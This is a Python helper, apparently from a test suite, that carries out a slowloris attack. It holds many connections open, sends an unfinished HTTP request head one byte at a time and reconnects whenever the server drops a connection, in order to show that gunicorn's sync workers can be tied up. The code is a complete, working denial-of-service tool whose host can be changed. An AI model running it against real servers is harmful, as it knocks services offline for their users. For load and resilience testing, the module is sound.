"""Slow clients ("slowloris"): connections that send a request head one byte
at a time and never finish it.

gunicorn's sync worker reads a request head with a blocking read and no
time limit of its own, so each such connection holds a worker until the
master kills it for silence (`timeout`, 30 s). A handful of them stops
every other request; a buffering proxy in front holds them instead.

SlowClients keeps `count` such connections open for `duration` seconds,
sending one byte on each every `interval`. A connection the server closes
is counted and opened again at once, as an attacker would. It runs in one
background thread and stops by itself.
"""

import contextlib
import itertools
import select
import socket
import threading
import time

HEAD = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
PADDING = b"X-Slow: 1\r\n"  # repeated for ever: the blank line that ends the head never comes


class SlowClients:
    def __init__(self, port, *, count=16, interval=1.0, duration=30.0, host="127.0.0.1"):
        self.address = (host, port)
        self.count, self.interval, self.duration = count, interval, duration
        self.opened = 0  # connections made
        self.closed_by_server = 0  # connections the server ended while they trickled
        self.bytes_sent = 0
        self.refused = 0  # connection attempts that failed
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        """End now (closing every connection)."""
        self._stop.set()
        self._thread.join(self.interval + 10)

    def wait(self):
        """Let it run its `duration` out and end by itself."""
        self._thread.join(self.duration + self.interval + 10)

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()

    def _connect(self):
        try:
            sock = socket.create_connection(self.address, timeout=5)
        except OSError:
            self.refused += 1
            return None
        sock.setblocking(False)
        self.opened += 1
        return sock, itertools.chain(HEAD, itertools.cycle(PADDING))

    def _run(self):
        deadline = time.monotonic() + self.duration
        clients = [None] * self.count
        try:
            while not self._stop.is_set() and time.monotonic() < deadline:
                for i, client in enumerate(clients):
                    if client is not None and _ended(client[0]):
                        client[0].close()
                        self.closed_by_server += 1
                        client = None
                    if client is None:
                        client = clients[i] = self._connect()
                        if client is None:
                            continue
                    sock, head = client
                    try:
                        self.bytes_sent += sock.send(bytes([next(head)]))
                    except OSError:
                        sock.close()
                        self.closed_by_server += 1
                        clients[i] = None
                self._stop.wait(self.interval)
        finally:
            for client in clients:
                if client is not None:
                    client[0].close()


def _ended(sock):
    """True when the server closed the connection (or answered it: either way it is over)."""
    readable, _, _ = select.select([sock], [], [], 0)
    if not readable:
        return False
    with contextlib.suppress(OSError):
        sock.recv(65536)
    return True
